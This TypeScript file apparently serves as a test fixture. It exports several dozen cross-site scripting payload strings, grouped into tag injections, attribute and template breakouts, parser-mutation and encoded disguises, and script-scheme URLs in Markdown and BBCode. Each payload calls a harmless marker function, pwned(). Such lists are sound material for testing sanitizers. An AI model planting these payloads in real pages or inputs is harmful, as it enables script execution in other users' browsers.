/**
 * Texts that would run `pwned()` where a page takes them for more than text: one of every kind that lists of such texts hold. Each has
 * letters and no comma, so that it may be a tag, too.
 */
const call = 'pwned()';

/** In the text of a page. */
const elements = [
  `<script>${call}</script>`,
  `<ScRiPt>${call}</sCrIpT>`,
  `<script\t>${call}</script >`,
  '<script src=data:text/javascript;base64&#44;cHduZWQoKQ==></script>',
  `<script type=module>${call}</script>`,
  `<<script>${call}//<</script>`,
  `<scr<script>ipt>${call}</scr</script>ipt>`,
  `</script><script>${call}</script>`,
  `<img src=x onerror=${call}>`,
  `<img/src=x/onerror=${call}>`,
  `<img src=x onerror\n=${call}>`,
  `<img src=x:x onerror=${call}//`,
  `<image src=x onerror=${call}>`,
  `<svg onload=${call}>`,
  `<svg/onload=${call}>`,
  `<svg><script>${call}</script></svg>`,
  `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  `<svg><a xlink:href=javascript:${call}><text y=20>x</text></a></svg>`,
  `<svg><set attributeName=onmouseover to=${call}>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${call}</script>"></foreignObject></svg>`,
  `<body onload=${call}>`,
  `<iframe src=javascript:${call}>`,
  `<iframe srcdoc="<script>parent.${call}</script>">`,
  `<object data=javascript:${call}>`,
  `<embed src=javascript:${call}>`,
  `<video><source onerror=${call}></video>`,
  `<audio src=x onerror=${call}>`,
  `<details open ontoggle=${call}>x</details>`,
  `<input autofocus onfocus=${call}>`,
  `<select autofocus onfocus=${call}>`,
  `<marquee onstart=${call}>x</marquee>`,
  `<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart=${call}>x</b>`,
  `<link rel=stylesheet href=javascript:${call}>`,
  `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  `<base href=javascript:${call}//>`,
  `<form action=javascript:${call}><input type=submit autofocus>`,
  `<button popovertarget=x>x</button><x popover id=x onbeforetoggle=${call}>y</x>`,
  `<math><mi xlink:href=javascript:${call}>x</mi></math>`,
];

/** In attributes, in the state of a page, in templates. */
const breakouts = [
  `"><img src=x onerror=${call}>`,
  `'><img src=x onerror=${call}>`,
  `" onmouseover=${call} x="`,
  `' onfocus=${call} autofocus x='`,
  `\`><img src=x onerror=${call}>`,
  `--><img src=x onerror=${call}>`,
  `</title><img src=x onerror=${call}>`,
  `</textarea><img src=x onerror=${call}>`,
  `</style><img src=x onerror=${call}>`,
  `]]><img src=x onerror=${call}>`,
  `";${call};//`,
  `';${call};//`,
  `\\";${call};//`,
  `\${${call}}`,
  `{{constructor.constructor('${call}')()}}`,
  `<!--state--><script>${call}</script>`,
  `$&$'$\`<img src=x onerror=${call}>`,
  `\u2028${call}\u2029`,
];

/** Payloads that browsers change while they parse, and payloads in other encodings. */
const disguises = [
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${call}>`,
  `<svg></p><style><a id="</style><img src=x onerror=${call}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${call}>`,
  `<template><script>${call}</script></template>`,
  `&lt;img src=x onerror=${call}&gt;`,
  `&#60;img src=x onerror=${call}&#62;`,
  `%3Cimg src=x onerror=${call}%3E`,
  `\\u003cimg src=x onerror=${call}\\u003e`,
  `\uff1cimg src=x onerror=${call}\uff1e`,
  `+ADw-script+AD4-${call}+ADw-/script+AD4-`,
  `<a href=&#106avascript:${call}>x</a>`,
  `<a href="java\tscript:${call}">x</a>`,
  `<a href="\u0001javascript:${call}">x</a>`,
];

/** As addresses, plain and in the manner of Markdown and BBCode. */
const addresses = [
  `javascript:${call}`,
  `JaVaScRiPt:${call}`,
  `javascript://example.com/%0a${call}`,
  `data:text/html;base64;PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+ pwned`,
  `vbscript:${call}`,
  `[x](javascript:${call})`,
  `![x](x"onerror="${call})`,
  `[url=javascript:${call}]x[/url]`,
  `https://example.com/"onmouseover="${call}`,
  `https://example.com/<img/src=x/onerror=${call}>`,
  `@pwnedname"onmouseover="${call}`,
];

export const payloads: readonly string[] = [...elements, ...breakouts, ...disguises, ...addresses];
